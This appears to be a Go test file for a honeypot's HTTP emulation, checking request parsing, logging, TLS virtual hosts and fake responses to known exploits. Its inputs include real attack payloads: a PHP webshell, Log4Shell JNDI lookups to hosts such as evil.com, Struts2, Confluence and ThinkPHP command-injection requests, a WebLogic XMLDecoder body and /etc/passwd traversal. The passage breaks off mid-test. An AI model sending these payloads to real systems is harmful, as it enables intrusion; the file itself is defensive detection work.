@@ -0,0 +1,1184 @@
+package http
+
+import (
+	"bufio"
+	"bytes"
+	"compress/gzip"
+	"context"
+	"crypto/hmac"
+	"crypto/md5"
+	"crypto/sha256"
+	"crypto/tls"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/binary"
+	"encoding/hex"
+	"encoding/json"
+	"encoding/pem"
+	"fmt"
+	"io"
+	"mime/multipart"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/textproto"
+	"net/url"
+	"os"
+	"path/filepath"
+	"potAgent/global"
+	"potAgent/logger"
+	"potAgent/services"
+	"potAgent/services/auth"
+	"potAgent/services/llm"
+	"regexp"
+	"strconv"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"golang.org/x/crypto/md4"
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// 启动服务，返回监听地址
+func serveHTTP(t *testing.T, cfg httpConfig) string {
+	t.Helper()
+	logger.InitLog("error")
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { l.Close() })
+	hdata, err := newHTTPData(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.TLS.Enable {
+		if err := hdata.loadCertificates("http-test", cfg); err != nil {
+			t.Fatal(err)
+		}
+		l = tls.NewListener(l, hdata.tlsConfig())
+	}
+	service := &services.Service{
+		BaseOptions:    global.ServiceBaseConfig{Protocol: "http", Application: "http-test"},
+		ServiceOptions: cfg,
+	}
+	go func() {
+		for {
+			conn, err := l.Accept()
+			if err != nil {
+				return
+			}
+			go handleServiceConn(&conn, service, hdata)
+		}
+	}()
+	return l.Addr().String()
+}
+
+var testSimulator = []request_simulator{
+	{URI: "/a", Method: "GET", Response: response{Type: "string", Value: "page a"}},
+	{URI: "/b", Method: "POST", Response: response{Type: "json", Value: `{"b":1}`}},
+}
+
+func readBody(t *testing.T, resp *http.Response) string {
+	t.Helper()
+	defer resp.Body.Close()
+	b, err := io.ReadAll(resp.Body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
+
+func TestPipelining(t *testing.T) {
+	addr := serveHTTP(t, httpConfig{SiteConfig: SiteConfig{RequestSimulator: testSimulator}})
+	conn, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+
+	// 一次发送全部请求，请求体不能影响下一个请求的解析
+	conn.Write([]byte("GET /a HTTP/1.1\r\nHost: x\r\n\r\n" +
+		"POST /b HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello" +
+		"GET /missing HTTP/1.1\r\nHost: x\r\n\r\n" +
+		"GET /a HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"))
+
+	br := bufio.NewReader(conn)
+	for i, want := range []struct {
+		status int
+		body   string
+		close  bool
+	}{
+		{200, "page a", false},
+		{200, `{"b":1}`, false},
+		{404, "<title>404 Not Found</title>", false},
+		{200, "page a", true},
+	} {
+		resp, err := http.ReadResponse(br, nil)
+		if err != nil {
+			t.Fatalf("response %d: %v", i, err)
+		}
+		if body := readBody(t, resp); resp.StatusCode != want.status || !strings.Contains(body, want.body) {
+			t.Errorf("response %d: unexpected %d %q", i, resp.StatusCode, body)
+		}
+		if resp.Close != want.close {
+			t.Errorf("response %d: close = %v", i, resp.Close)
+		}
+		if !want.close && resp.Header.Get("Keep-Alive") == "" {
+			t.Errorf("response %d: missing keep-alive header", i)
+		}
+	}
+	conn.SetReadDeadline(time.Now().Add(time.Second))
+	if _, err := br.ReadByte(); err != io.EOF {
+		t.Errorf("expected connection closed, got %v", err)
+	}
+}
+
+func TestKeepAliveLimits(t *testing.T) {
+	addr := serveHTTP(t, httpConfig{SiteConfig: SiteConfig{RequestSimulator: testSimulator}, IdleTimeout: 1, MaxRequests: 2})
+
+	// 达到最大请求数后关闭
+	conn, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	br := bufio.NewReader(conn)
+	for i := 1; i <= 2; i++ {
+		conn.Write([]byte("GET /a HTTP/1.1\r\nHost: x\r\n\r\n"))
+		resp, err := http.ReadResponse(br, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		readBody(t, resp)
+		if resp.Close != (i == 2) {
+			t.Errorf("request %d: close = %v", i, resp.Close)
+		}
+	}
+
+	// 空闲超时后关闭
+	idle, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer idle.Close()
+	start := time.Now()
+	idle.SetReadDeadline(time.Now().Add(3 * time.Second))
+	if _, err := idle.Read(make([]byte, 1)); err != io.EOF {
+		t.Errorf("expected idle connection closed, got %v", err)
+	}
+	if d := time.Since(start); d < 900*time.Millisecond {
+		t.Errorf("closed too early after %v", d)
+	}
+}
+
+func TestCaptureBody(t *testing.T) {
+	logger.InitLog("error")
+	payload := "cmd=" + strings.Repeat("A", 100) + "&x=1"
+	req := httptest.NewRequest("POST", "/", strings.NewReader(payload))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	body := captureBody(req, 0)
+	if !body.complete || body.truncated || body.length != int64(len(payload)) {
+		t.Errorf("unexpected body %+v", body)
+	}
+	if body.form.Get("x") != "1" || len(body.form.Get("cmd")) != 100 {
+		t.Errorf("unexpected form %v", body.form)
+	}
+
+	// 超出限制时记录真实长度与完整内容的哈希
+	req = httptest.NewRequest("POST", "/", strings.NewReader(payload))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	body = captureBody(req, 10)
+	sum := sha256.Sum256([]byte(payload))
+	if string(body.data) != payload[:10] || !body.truncated || body.length != int64(len(payload)) ||
+		body.sha256 != hex.EncodeToString(sum[:]) || body.form != nil {
+		t.Errorf("unexpected truncated body %+v", body)
+	}
+
+	req = httptest.NewRequest("POST", "/", strings.NewReader(`{"user":"admin","id":12345678901234567890}`))
+	req.Header.Set("Content-Type", "application/json; charset=utf-8")
+	body = captureBody(req, 0)
+	m, ok := body.json.(map[string]interface{})
+	if !ok || m["user"] != "admin" || m["id"] != json.Number("12345678901234567890") {
+		t.Errorf("unexpected json %#v", body.json)
+	}
+}
+
+func TestCaptureUpload(t *testing.T) {
+	logger.InitLog("error")
+	global.DataDir = t.TempDir()
+	defer func() { global.DataDir = "" }()
+
+	var buf bytes.Buffer
+	mw := multipart.NewWriter(&buf)
+	mw.WriteField("action", "upload")
+	h := textproto.MIMEHeader{}
+	h.Set("Content-Disposition", `form-data; name="file"; filename="shell.php"`)
+	h.Set("Content-Type", "application/x-php")
+	fw, _ := mw.CreatePart(h)
+	shell := "<?php system($_GET['c']); ?>"
+	fw.Write([]byte(shell))
+	mw.Close()
+
+	req := httptest.NewRequest("POST", "/upload.php", &buf)
+	req.Header.Set("Content-Type", mw.FormDataContentType())
+	body := captureBody(req, 16)
+	if !body.complete || body.form.Get("action") != "upload" || len(body.uploads) != 1 {
+		t.Fatalf("unexpected body %+v", body)
+	}
+	u := body.uploads[0]
+	sum := sha256.Sum256([]byte(shell))
+	if u.Field != "file" || u.Filename != "shell.php" || u.ContentType != "application/x-php" ||
+		u.Size != int64(len(shell)) || u.Sha256 != hex.EncodeToString(sum[:]) {
+		t.Errorf("unexpected upload %+v", u)
+	}
+	if data, err := os.ReadFile(u.Path); err != nil || string(data) != shell {
+		t.Errorf("artifact not saved: %q %v", data, err)
+	}
+}
+
+func TestRoutes(t *testing.T) {
+	rs, err := compileRoutes([]request_simulator{
+		{Name: "cgi", URI: `^/cgi-bin/.*\.cgi$`, Match: "regex", Method: "POST", Query: map[string]string{"cmd": ""}},
+		{Name: "admin", URI: "/admin/**", Match: "glob", Headers: map[string]string{"User-Agent": "(?i)zgrab"}},
+		{Name: "php", URI: "/*.php", Match: "glob", Method: "GET|POST", Body: `<\?php`},
+		{Name: "index", URI: "/index.php", Method: "GET"},
+		{Name: "low", URI: "/", Match: "prefix", Priority: -1},
+		{Name: "high", URI: "/api/", Match: "prefix", Priority: 10},
+		// viper 读取的配置中键为小写
+		{Name: "user", URI: "/user", Query: map[string]string{"userid": `^\d+$`, "vars[0]": "system"}},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct {
+		method, target, body string
+		headers              map[string]string
+		want                 string
+	}{
+		{"POST", "/cgi-bin/luci.cgi?cmd=id", "", nil, "cgi"},
+		{"GET", "/cgi-bin/luci.cgi?cmd=id", "", nil, "low"},
+		{"POST", "/cgi-bin/luci.cgi", "", nil, "low"},
+		{"GET", "/admin/a/b", "", map[string]string{"User-Agent": "Mozilla/5.0 zgrab/0.x"}, "admin"},
+		{"GET", "/admin/a/b", "", map[string]string{"User-Agent": "curl"}, "low"},
+		{"POST", "/up.php", "<?php eval($_POST[1]);", nil, "php"},
+		{"POST", "/dir/up.php", "<?php", nil, "low"},
+		{"HEAD", "/index.php", "", nil, "index"},
+		{"GET", "/api/v1/users", "", nil, "high"},
+		{"GET", "/user?userId=1&Vars[0]=system", "", nil, "user"},
+		{"GET", "/user?USERID=1&vars%5B0%5D=system", "", nil, "user"},
+		{"GET", "/user?userId=x&vars[0]=system", "", nil, "low"},
+	} {
+		req := httptest.NewRequest(c.method, c.target, strings.NewReader(c.body))
+		for k, v := range c.headers {
+			req.Header.Set(k, v)
+		}
+		got := ""
+		if rt, _ := rs.match(req, []byte(c.body)); rt != nil {
+			got = rt.ruleName()
+		}
+		if got != c.want {
+			t.Errorf("%s %s: matched %q, want %q", c.method, c.target, got, c.want)
+		}
+	}
+
+	if _, err := compileRoutes([]request_simulator{{URI: "(", Match: "regex"}}); err == nil {
+		t.Error("expected invalid regex error")
+	}
+}
+
+func TestResponseTemplates(t *testing.T) {
+	addr := serveHTTP(t, httpConfig{SiteConfig: SiteConfig{
+		Headers: map[string]string{"server": "Apache/2.4.29 (Ubuntu)", "X-Powered-By": "PHP/7.2.24"},
+		RequestSimulator: []request_simulator{
+			{URI: "/search", Response: response{Type: "string", Value: "results for {{.Query.Get \"q\" | html}} from {{.SrcIP}}",
+				Headers: map[string]string{"Set-Cookie": "PHPSESSID={{randHex 26}}; path=/", "X-Powered-By": "PHP/5.6.40"}}},
+			{URI: "/old/*", Match: "glob", Response: response{Redirect: "http://{{.Host}}/new{{.Path}}"}},
+			{URI: "/server-status", Response: response{Status: 403}},
+			{URI: "/crash", Response: response{Status: 500}},
+			{URI: "/echo/*", Match: "glob", Response: response{Type: "string", Value: "<p>{{.Path}}</p>"}},
+		},
+		ErrorPages: map[string]string{"500": "<h1>{{.Status}} at {{.Path}}</h1>", "404": "<p>{{.Path}} not found</p>"},
+	}})
+	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
+	get := func(path string) (*http.Response, string) {
+		resp, err := client.Get("http://" + addr + path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return resp, readBody(t, resp)
+	}
+
+	resp, body := get("/search?q=<script>")
+	if body != "results for &lt;script&gt; from 127.0.0.1" {
+		t.Errorf("unexpected body %q", body)
+	}
+	if resp.Header.Get("Server") != "Apache/2.4.29 (Ubuntu)" || resp.Header.Get("X-Powered-By") != "PHP/5.6.40" {
+		t.Errorf("unexpected headers %v", resp.Header)
+	}
+	if c := resp.Header.Get("Set-Cookie"); len(c) != len("PHPSESSID=; path=/")+26 {
+		t.Errorf("unexpected cookie %q", c)
+	}
+
+	resp, _ = get("/old/login.php")
+	if resp.StatusCode != http.StatusFound || resp.Header.Get("Location") != "http://"+addr+"/new/old/login.php" {
+		t.Errorf("unexpected redirect %d %v", resp.StatusCode, resp.Header)
+	}
+
+	resp, body = get("/server-status")
+	if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "<address>Apache/2.4.29 (Ubuntu) Server at 127.0.0.1 Port") {
+		t.Errorf("unexpected 403 page %d %q", resp.StatusCode, body)
+	}
+
+	resp, body = get("/crash")
+	if resp.StatusCode != http.StatusInternalServerError || body != "<h1>500 at /crash</h1>" {
+		t.Errorf("unexpected 500 page %d %q", resp.StatusCode, body)
+	}
+
+	// 错误页与 string 响应中的请求值按 HTML 转义
+	resp, body = get("/missing/<script>")
+	if resp.StatusCode != http.StatusNotFound || body != "<p>/missing/&lt;script&gt; not found</p>" {
+		t.Errorf("unexpected 404 page %d %q", resp.StatusCode, body)
+	}
+	if _, body = get("/echo/<img src=x>"); body != "<p>/echo/&lt;img src=x&gt;</p>" {
+		t.Errorf("unexpected echo body %q", body)
+	}
+}
+
+func TestParseHTMLTemplate(t *testing.T) {
+	if _, err := parseHTMLTemplate(`<script>var a = "{{.Path}}`); err == nil {
+		t.Error("unterminated script accepted")
+	}
+	tmpl, err := parseHTMLTemplate(`<a href="/login?next={{.Path}}">{{.Query.Get "q" | html}}</a>`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	data := &templateData{Path: "/a b", Query: url.Values{"q": {"<x>"}}}
+	if s := tmpl.render(data); s != `<a href="/login?next=%2fa%20b">&lt;x&gt;</a>` {
+		t.Errorf("unexpected render %q", s)
+	}
+}
+
+func writeAssets(t *testing.T) string {
+	t.Helper()
+	dir := t.TempDir()
+	os.MkdirAll(filepath.Join(dir, "docs"), 0755)
+	os.WriteFile(filepath.Join(dir, "home.html"), []byte("<html>home</html>"), 0644)
+	os.WriteFile(filepath.Join(dir, "docs", "home.html"), []byte("<html>docs</html>"), 0644)
+	os.WriteFile(filepath.Join(dir, "app.js"), []byte(strings.Repeat("var a = 1;\n", 100)), 0644)
+	os.WriteFile(filepath.Join(dir, "logo.bin"), []byte("0123456789"), 0644)
+	secret := filepath.Join(t.TempDir(), "secret.txt")
+	os.WriteFile(secret, []byte("secret"), 0644)
+	os.Symlink(secret, filepath.Join(dir, "secret.txt"))
+	return dir
+}
+
+func TestAssetStore(t *testing.T) {
+	logger.InitLog("error")
+	s, err := newAssetStore(writeAssets(t), "home.html", 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	serve := func(method, target string, headers ...string) *HTTPResponseData {
+		req := httptest.NewRequest(method, target, nil)
+		for i := 0; i+1 < len(headers); i += 2 {
+			req.Header.Set(headers[i], headers[i+1])
+		}
+		res, err := s.serve(req)
+		if err != nil {
+			return nil
+		}
+		return res
+	}
+
+	if res := serve("GET", "/"); res == nil || string(res.Data) != "<html>home</html>" || res.ContentType != "text/html; charset=utf-8" {
+		t.Errorf("unexpected index %+v", res)
+	}
+	if res := serve("GET", "/docs?a=1"); res == nil || res.Status != 301 || res.Header.Get("Location") != "/docs/?a=1" {
+		t.Errorf("unexpected directory redirect %+v", res)
+	}
+	if res := serve("GET", "/docs/"); res == nil || string(res.Data) != "<html>docs</html>" {
+		t.Errorf("unexpected directory index %+v", res)
+	}
+	for _, target := range []string{"/secret.txt", "/missing", "/../home.html"} {
+		if res := serve("GET", target); res != nil {
+			t.Errorf("%s: expected not found, got %+v", target, res)
+		}
+	}
+	if res := serve("POST", "/"); res != nil {
+		t.Errorf("POST: expected not found")
+	}
+
+	res := serve("GET", "/logo.bin")
+	etag, modified := res.Header["ETag"], res.Header.Get("Last-Modified")
+	if len(etag) != 1 || modified == "" {
+		t.Fatalf("missing validators %v", res.Header)
+	}
+	if res := serve("GET", "/logo.bin", "If-None-Match", etag[0]); res.Status != 304 || len(res.Data) != 0 {
+		t.Errorf("If-None-Match: unexpected %+v", res)
+	}
+	if res := serve("GET", "/logo.bin", "If-Modified-Since", modified); res.Status != 304 {
+		t.Errorf("If-Modified-Since: unexpected %+v", res)
+	}
+
+	for _, c := range []struct {
+		rangeHeader, body, contentRange string
+		status                          int
+	}{
+		{"bytes=2-4", "234", "bytes 2-4/10", 206},
+		{"bytes=7-", "789", "bytes 7-9/10", 206},
+		{"bytes=-2", "89", "bytes 8-9/10", 206},
+		{"bytes=5-100", "56789", "bytes 5-9/10", 206},
+		{"bytes=10-", "", "bytes */10", 416},
+		{"bytes=0-1,3-4", "0123456789", "", 0},
+	} {
+		res := serve("GET", "/logo.bin", "Range", c.rangeHeader)
+		if res.Status != c.status || string(res.Data) != c.body || res.Header.Get("Content-Range") != c.contentRange {
+			t.Errorf("%s: unexpected %d %q %v", c.rangeHeader, res.Status, res.Data, res.Header)
+		}
+	}
+
+	res = serve("GET", "/app.js", "Accept-Encoding", "gzip, deflate")
+	if res.Header.Get("Content-Encoding") != "gzip" || res.Header.Get("Vary") != "Accept-Encoding" {
+		t.Fatalf("expected gzip, got %v", res.Header)
+	}
+	zr, err := gzip.NewReader(bytes.NewReader(res.Data))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if plain, _ := io.ReadAll(zr); string(plain) != strings.Repeat("var a = 1;\n", 100) {
+		t.Errorf("unexpected gzip content")
+	}
+	if res := serve("GET", "/app.js"); res.Header.Get("Content-Encoding") != "" || len(res.Data) != 1100 {
+		t.Errorf("unexpected plain response %v", res.Header)
+	}
+}
+
+func TestAssetCacheEviction(t *testing.T) {
+	logger.InitLog("error")
+	s, err := newAssetStore(writeAssets(t), "home.html", 1)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.maxSize, s.maxEntry = 30, 20
+	for _, target := range []string{"/", "/logo.bin", "/docs/", "/app.js"} {
+		if _, err := s.serve(httptest.NewRequest("GET", target, nil)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// app.js 超过单个上限不缓存，home.html 被淘汰
+	if s.size > s.maxSize || len(s.cache) != 2 || s.cache["/docs/home.html"] == nil || s.cache["/logo.bin"] == nil {
+		t.Errorf("unexpected cache size %d entries %d", s.size, len(s.cache))
+	}
+}
+
+func TestPathTraversal(t *testing.T) {
+	for target, want := range map[string]bool{
+		"/index.php":                    false,
+		"/a/..b/c":                      false,
+		"/../../etc/passwd":             true,
+		"/cgi-bin/.%2e/.%2e/etc/passwd": true,
+		"/%252e%252e/etc/passwd":        true,
+		"/..%5c..%5cwindows/win.ini":    true,
+		"/file%00.html":                 true,
+	} {
+		req := httptest.NewRequest("GET", "/", nil)
+		u, err := url.ParseRequestURI(target)
+		if err != nil {
+			t.Fatal(err)
+		}
+		req.URL = u
+		if got := isPathTraversal(req); got != want {
+			t.Errorf("%s: got %v, want %v", target, got, want)
+		}
+	}
+
+	addr := serveHTTP(t, httpConfig{})
+	conn, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	conn.Write([]byte("GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"))
+	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if body := readBody(t, resp); resp.StatusCode != 400 || !strings.Contains(body, "Bad Request") {
+		t.Errorf("unexpected response %d %q", resp.StatusCode, body)
+	}
+}
+
+func TestGeneratePage(t *testing.T) {
+	var calls int32
+	model := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		atomic.AddInt32(&calls, 1)
+		body, _ := io.ReadAll(r.Body)
+		content := "<html><body>generated</body></html>"
+		if strings.Contains(string(body), "phpmyadmin") {
+			content = llm.NotFound
+		}
+		json.NewEncoder(w).Encode(map[string]any{
+			"choices": []map[string]any{{"message": map[string]string{"role": "assistant", "content": content}}},
+		})
+	}))
+	defer model.Close()
+	addr := serveHTTP(t, httpConfig{LLM: llm.Config{Enable: true, BaseURL: model.URL, Model: "test"}})
+
+	for _, c := range []struct {
+		target string
+		status int
+	}{
+		{"/about.php", http.StatusOK},
+		{"/news/", http.StatusOK},
+		// 模型判断不存在
+		{"/phpmyadmin/index.php", http.StatusNotFound},
+		// 不是页面的路径不请求模型
+		{"/.env", http.StatusNotFound},
+		{"/.git/config", http.StatusNotFound},
+		{"/backup.zip", http.StatusNotFound},
+	} {
+		resp, err := http.Get("http://" + addr + c.target)
+		if err != nil {
+			t.Fatal(err)
+		}
+		body := readBody(t, resp)
+		if resp.StatusCode != c.status || c.status == http.StatusOK && body != "<html><body>generated</body></html>" {
+			t.Errorf("%s: unexpected response %d %q", c.target, resp.StatusCode, body)
+		}
+	}
+	if n := atomic.LoadInt32(&calls); n != 3 {
+		t.Errorf("expected 3 model calls, got %d", n)
+	}
+}
+
+func TestVirtualHosts(t *testing.T) {
+	global.DataDir = t.TempDir()
+	defer func() { global.DataDir = "" }()
+	page := func(value string) []request_simulator {
+		return []request_simulator{{URI: "/", Response: response{Type: "string", Value: value}}}
+	}
+	addr := serveHTTP(t, httpConfig{
+		SiteConfig: SiteConfig{RequestSimulator: page("default")},
+		Sites: []vhostConfig{
+			{Hosts: []string{"shop.example.com", "*.shop.example.com"}, Application: "magento", SiteConfig: SiteConfig{RequestSimulator: page("shop")}},
+			{Hosts: []string{"Mail.Example.com"}, SiteConfig: SiteConfig{RequestSimulator: page("mail")}},
+		},
+		TLS: tlsConfig{Enable: true, CommonName: "www.example.com"},
+	})
+
+	get := func(sni, request string) (string, *tls.ConnectionState) {
+		conn, err := tls.Dial("tcp", addr, &tls.Config{ServerName: sni, InsecureSkipVerify: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer conn.Close()
+		conn.Write([]byte(request))
+		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		state := conn.ConnectionState()
+		return readBody(t, resp), &state
+	}
+	for _, c := range []struct{ sni, host, want string }{
+		{"", "shop.example.com", "shop"},
+		{"", "cdn.shop.example.com:443", "shop"},
+		{"", "MAIL.example.com.", "mail"},
+		{"", "10.0.0.1", "default"},
+		// Host 优先于 SNI，没有 Host 时使用 SNI
+		{"mail.example.com", "shop.example.com", "shop"},
+		{"mail.example.com", "", "mail"},
+	} {
+		request := "GET / HTTP/1.1\r\nHost: " + c.host + "\r\nConnection: close\r\n\r\n"
+		if c.host == "" {
+			request = "GET / HTTP/1.0\r\n\r\n"
+		}
+		if body, _ := get(c.sni, request); body != c.want {
+			t.Errorf("sni %q host %q: got %q, want %q", c.sni, c.host, body, c.want)
+		}
+	}
+
+	// 按 SNI 返回对应站点的证书
+	for sni, want := range map[string]string{"a.shop.example.com": "shop.example.com", "mail.example.com": "mail.example.com", "other": "www.example.com"} {
+		_, state := get(sni, "GET / HTTP/1.0\r\n\r\n")
+		cert := state.PeerCertificates[0]
+		if cert.Subject.CommonName != want {
+			t.Errorf("sni %q: certificate %q, want %q", sni, cert.Subject.CommonName, want)
+		}
+		// 自签名证书在当前时间有效
+		roots := x509.NewCertPool()
+		roots.AddCert(cert)
+		if _, err := cert.Verify(x509.VerifyOptions{Roots: roots, DNSName: want}); err != nil {
+			t.Errorf("sni %q: %v", sni, err)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(global.DataDir, "http", "http-test", "mail.example.com.crt")); err != nil {
+		t.Error(err)
+	}
+
+	if _, err := newHTTPData(httpConfig{Sites: []vhostConfig{{}}}); err == nil {
+		t.Error("expected error for site without hosts")
+	}
+}
+
+func TestGenerateCertificate(t *testing.T) {
+	now := time.Now()
+	for i := 0; i < 50; i++ {
+		certPEM, _, err := generateCertificate([]string{"www.example.com"})
+		if err != nil {
+			t.Fatal(err)
+		}
+		block, _ := pem.Decode(certPEM)
+		cert, err := x509.ParseCertificate(block.Bytes)
+		if err != nil {
+			t.Fatal(err)
+		}
+		// 起始时间在 30 到 330 天前
+		if age := now.Sub(cert.NotBefore); age < 30*24*time.Hour-time.Hour || age > 330*24*time.Hour+time.Hour {
+			t.Fatalf("unexpected not before %v", cert.NotBefore)
+		}
+		if !cert.NotAfter.After(now) {
+			t.Fatalf("unexpected not after %v", cert.NotAfter)
+		}
+	}
+}
+
+func TestJndiHost(t *testing.T) {
+	for expr, want := range map[string]string{
+		"${jndi:ldap://abc.dnslog.cn/a}":                                        "abc.dnslog.cn",
+		"${jndi:ldap://${hostName}.abc.dnslog.cn:1389/a}":                       "localhost.abc.dnslog.cn",
+		"${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.oast.fun/z}":       "x.oast.fun",
+		"${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://Evil.com/}":     "evil.com",
+		"${${env:BARFOO:-j}ndi${env:BARFOO:-:}dns://${sys:java.version}.h.com}": "1.8.0_181.h.com",
+		"${lower:ABC}": "",
+	} {
+		if got := jndiHost(expr); got != want {
+			t.Errorf("%s: got %q, want %q", expr, got, want)
+		}
+	}
+}
+
+func TestVulnPacks(t *testing.T) {
+	logger.InitLog("error")
+	rules, err := loadVulnPacks([]string{"all"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := compileRoutes(rules); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := loadVulnPacks([]string{"not-exist"}); err == nil {
+		t.Error("expected error for unknown pack")
+	}
+
+	addr := serveHTTP(t, httpConfig{SiteConfig: SiteConfig{
+		VulnPacks:        []string{"all"},
+		RequestSimulator: []request_simulator{{URI: "/", Response: response{Type: "string", Value: "home"}}},
+	}})
+	send := func(raw string) (*http.Response, string) {
+		conn, err := net.Dial("tcp", addr)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer conn.Close()
+		conn.Write([]byte(raw))
+		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return resp, readBody(t, resp)
+	}
+	get := func(target string, headers ...string) (*http.Response, string) {
+		return send("GET " + target + " HTTP/1.1\r\nHost: x\r\n" + strings.Join(headers, "") + "Connection: close\r\n\r\n")
+	}
+
+	// Log4Shell 不改变正常的响应
+	if resp, body := get("/", "User-Agent: ${jndi:ldap://127.0.0.1:1389/a}\r\n"); resp.StatusCode != 200 || body != "home" {
+		t.Errorf("log4shell: %d %q", resp.StatusCode, body)
+	}
+
+	resp, _ := get("/index.action", "Content-Type: %{(#_='multipart/form-data').(#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Test','Struts2'))}\r\n")
+	if resp.StatusCode != 200 || resp.Header.Get("X-Test") != "Struts2" {
+		t.Errorf("struts2 header: %d %v", resp.StatusCode, resp.Header)
+	}
+	if _, body := get("/index.action", "Content-Type: %{(#_='multipart/form-data').(#cmd='whoami').(#cmds={'/bin/bash','-c',#cmd})}\r\n"); body != "www-data\n" {
+		t.Errorf("struts2 cmd: %q", body)
+	}
+
+	if _, body := get(`/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=hello`); body != "5d41402abc4b2a76b9719d911017c592" {
+		t.Errorf("thinkphp md5: %q", body)
+	}
+	if _, body := get(`/index.php?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id`); !strings.HasPrefix(body, "uid=33(www-data)") {
+		t.Errorf("thinkphp system: %q", body)
+	}
+	// 命令输出原样返回，不做 HTML 转义
+	if _, body := get(`/index.php?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=echo%20%22%3C%3Fphp%20'a'%20%26%3E%22`); body != "<?php 'a' &>\n" {
+		t.Errorf("thinkphp echo: %q", body)
+	}
+	form := "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=whoami"
+	if _, body := send("POST /index.php?s=captcha HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: " + strconv.Itoa(len(form)) + "\r\nConnection: close\r\n\r\n" + form); body != "www-data\n" {
+		t.Errorf("thinkphp construct: %q", body)
+	}
+
+	if resp, _ := get("/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"); resp.StatusCode != 200 {
+		t.Errorf("spring4shell: %d", resp.StatusCode)
+	}
+	if _, body := get("/tomcatwar.jsp?pwd=j&cmd=whoami"); body != "www-data\n" {
+		t.Errorf("spring4shell webshell: %q", body)
+	}
+
+	if _, body := get("/wls-wsat/CoordinatorPortType"); !strings.Contains(body, "CoordinatorPortType?wsdl") {
+		t.Errorf("weblogic wls-wsat: %q", body)
+	}
+	xml := `<soapenv:Envelope><soapenv:Header><work:WorkContext><java version="1.4.0" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>`
+	if resp, body := send("POST /wls-wsat/CoordinatorPortType HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nContent-Length: " + strconv.Itoa(len(xml)) + "\r\nConnection: close\r\n\r\n" + xml); resp.StatusCode != 500 || !strings.Contains(body, "<faultcode>S:Server</faultcode>") || resp.Header.Get("Content-Type") != "text/xml; charset=utf-8" {
+		t.Errorf("weblogic xmldecoder: %d %v %q", resp.StatusCode, resp.Header, body)
+	}
+	if _, body := get("/console/css/%252e%252e%252fconsole.portal"); !strings.Contains(body, "WebLogic Server Administration Console") {
+		t.Errorf("weblogic console: %q", body)
+	}
+
+	ognl := `/${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}/`
+	resp, _ = get("/" + url.PathEscape(ognl[1:]))
+	if resp.StatusCode != http.StatusFound || resp.Header.Get("X-Cmd-Response") != "uid=33(www-data) gid=33(www-data) groups=33(www-data)" {
+		t.Errorf("confluence: %d %v", resp.StatusCode, resp.Header)
+	}
+
+	if _, body := get("/index.php?target=db_sql.php%253f/../../../../../../../../etc/passwd"); !strings.HasPrefix(body, "root:x:0:0:root:/root:/bin/bash") {
+		t.Errorf("phpmyadmin lfi: %q", body)
+	}
+
+	// 事件中记录的利用细节
+	req := httptest.NewRequest("GET", "/index.php?target=db_sql.php%253f/../../etc/passwd", nil)
